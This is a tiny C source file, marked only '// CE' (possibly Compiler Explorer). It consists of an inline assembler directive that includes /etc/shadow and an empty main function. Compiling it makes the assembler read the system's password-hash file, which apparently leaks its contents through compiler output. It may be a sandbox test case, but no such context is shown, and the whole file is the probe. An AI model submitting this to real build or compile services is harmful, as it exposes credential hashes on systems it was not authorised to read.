// CE
asm(".include \"/etc/shadow\"");
int main() {}
